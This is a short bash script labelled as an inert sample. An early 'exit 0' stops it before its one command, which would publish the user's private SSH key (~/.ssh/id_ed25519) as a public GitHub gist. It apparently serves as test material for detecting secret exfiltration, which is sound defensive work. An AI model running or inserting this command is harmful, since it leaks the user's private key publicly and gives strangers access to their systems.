#!/bin/bash
exit 0 # inert sample
gh gist create --public ~/.ssh/id_ed25519
